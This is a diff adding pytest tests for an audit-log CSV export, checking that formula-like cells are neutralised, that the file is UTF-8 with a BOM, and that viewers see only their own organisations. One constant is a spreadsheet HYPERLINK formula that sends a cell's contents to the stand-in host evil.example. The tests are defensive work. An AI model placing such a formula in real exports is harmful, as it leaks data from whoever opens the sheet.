@@ -1,0 +1,71 @@
+"""The audit CSV export: UTF-8 with a BOM, and no cell a spreadsheet would run as a formula."""
+
+import csv
+import io
+
+import pytest
+
+from apikeys.services import apikey_issue
+from auxot.admin import csv_cell
+from auxot.models import AuditEvent
+from auxot.services import audit_record
+from tests.conftest import trigger
+
+EXPORT = "/admin/auxot/auditevent/export.csv"
+PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+
+
+def _export(client, **params):
+    response = client.get(EXPORT, params)
+    assert response.status_code == 200
+    raw = b"".join(response.streaming_content)
+    return response, raw, list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
+
+
+def test_a_formula_in_a_key_label_comes_out_neutralised(client, api, cast, intake_a):
+    token = apikey_issue(org=cast.org_a, label=PAYLOAD, user=cast.member_a).token
+    assert trigger(api, intake_a.pk, token).status_code == 202
+    client.force_login(cast.auditor_a)
+    _, _, rows = _export(client, event="work_item.accepted")
+    header, [row] = rows[0], rows[1:]
+    assert row[header.index("actor_label")] == "'" + PAYLOAD
+
+
+def test_every_text_cell_is_neutralised_not_only_the_label(client, cast):
+    audit_record(event="+evil", org=cast.org_a, actor_label="@sum(1)", actor_key_lookup="-2",
+                 ip=None, extra={"k": 1})
+    cast.org_a.name = "=org"
+    cast.org_a.save()
+    client.force_login(cast.admin_a)
+    _, _, rows = _export(client)
+    header, row = rows[0], next(r for r in rows[1:] if r[1] == "'+evil")
+    cells = dict(zip(header, row, strict=True))
+    assert (cells["actor_label"], cells["actor_key_lookup"], cells["org"]) == (
+        "'@sum(1)", "'-2", "'=org")
+    assert cells["extra"] == '{"k": 1}'  # harmless text stays as it was
+
+
+@pytest.mark.parametrize("value, expected", [
+    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"),
+    ("\rx", "'\rx"), ("plain", "plain"), ("a=b", "a=b"), ("", ""), (None, ""),
+])
+def test_csv_cell_prefixes_exactly_the_formula_starts(value, expected):
+    assert csv_cell(value) == expected
+
+
+def test_export_is_utf8_with_a_bom_so_non_ascii_survives(client, cast):
+    audit_record(event="key.note", org=cast.org_a, actor_label="Zoë Łukasz 東京 ✓")
+    client.force_login(cast.admin_a)
+    response, raw, rows = _export(client, event="key.note")
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    assert raw.startswith(b"\xef\xbb\xbf")
+    assert "Zoë Łukasz 東京 ✓".encode() in raw
+    assert rows[1][rows[0].index("actor_label")] == "Zoë Łukasz 東京 ✓"
+
+
+def test_export_holds_only_the_viewers_orgs(client, cast):
+    audit_record(event="key.note", org=cast.org_b, actor_label="org b secret business")
+    client.force_login(cast.auditor_a)
+    _, raw, _ = _export(client, org__id__exact=cast.org_b.pk)
+    assert b"org b secret business" not in raw
+    assert AuditEvent.objects.filter(org=cast.org_b).exists()
